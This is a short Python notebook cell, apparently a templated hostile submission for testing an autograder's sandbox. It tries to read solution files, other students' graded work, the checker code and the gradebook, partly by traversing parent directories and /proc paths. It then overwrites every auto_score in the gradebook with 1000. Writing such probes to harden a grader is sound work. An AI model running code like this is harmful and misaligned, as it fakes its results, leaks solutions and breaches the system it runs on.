# %% own
import glob
import os
import sqlite3

import convbook

course, opened = "@COURSE@", []
inside = os.path.dirname(os.path.dirname(convbook.__file__))
wanted = [
    f"{course}/gradebook.db",
    f"{course}/solutions/tp1_layers/tp1_layers.md",
    f"{course}/exercises/tp1_layers/tp1_layers.ipynb",
    f"{course}/submitted/graded.perfect/tp1_layers/tp1_layers.ipynb",
    f"{course}/submitted/graded.canary-in-the-notebook/tp1_layers/tp1_layers.ipynb",
    f"{course}/reports/tp1_layers/results/graded.perfect.json",
    f"{inside}/autograder/questions/q01.py",
    f"{inside}/autograder/marking/checker.py",
    f"{inside}/tests/submissions",
    *(f"{'../' * up}{name}" for up in range(1, 9) for name in ("gradebook.db", "solutions")),
    *(f"/proc/{pid}/root{course}/gradebook.db" for pid in ("1", "self", "@PID@")),
    *(f"/proc/{pid}/cwd/gradebook.db" for pid in ("1", "self", "@PID@")),
]
for path in wanted:
    try:
        if os.path.isdir(path):
            print(os.listdir(path))
        else:
            with open(path, errors="replace") as file:
                print(file.read())
        opened.append(path)
    except OSError:
        pass
try:
    book = sqlite3.connect(f"file:{course}/gradebook.db?mode=rw", uri=True)
    book.execute("UPDATE grade SET auto_score = 1000")
    book.commit()
    opened.append("the gradebook, to write in it")
except sqlite3.OperationalError:
    pass
for folder in (course, "/home", "/root"):
    opened += glob.glob(f"{folder}/*")
print("opened:", opened)
